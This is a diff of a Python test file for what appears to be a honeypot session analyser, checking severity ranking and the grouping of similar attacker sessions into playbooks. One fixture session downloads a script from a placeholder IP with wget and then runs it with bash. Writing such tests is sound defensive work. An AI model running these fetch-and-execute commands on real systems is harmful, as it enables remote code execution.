@@ -228,6 +228,12 @@ async def test_the_worst_sessions_are_read_first_then_what_is_new_and_scripts_on
     ]  # fmt: skip
     assert [row["session_id"] for row in rows if row["new"]] == ["again", "first", "old", "fetched", "looked"]
     assert (await repo.sessions_worth_reading(400.0, limit=1))[0]["session_id"] == "again"
+    alike = [
+        (row["severity"], row["session_count"], row["story_line"]) for row in await repo.list_playbooks(400.0)
+    ]
+    assert alike[0] == ("high", 2, "fetch+run old-too.sh")
+    assert [severity for severity, _, _ in alike] == ["high", "high", "high", "medium", "low"]
+    assert len(await repo.list_playbooks(400.0, ["high"], limit=2)) == 2
     later = ended("before", ["wget http://203.0.113.9/z.sh", "bash z.sh", "w"], 5.0)
     await store(repo, later)
     await judge(worker, repo, later)
